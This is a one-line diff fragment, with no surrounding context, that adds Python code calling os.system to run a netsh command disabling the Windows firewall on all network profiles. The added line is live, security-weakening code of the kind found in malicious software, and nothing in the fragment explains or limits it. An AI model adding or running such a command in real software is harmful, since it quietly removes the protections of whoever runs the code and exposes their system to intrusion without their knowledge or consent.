@@ -1,0 +1,1 @@
+os.system("netsh advfirewall set allprofiles state off")
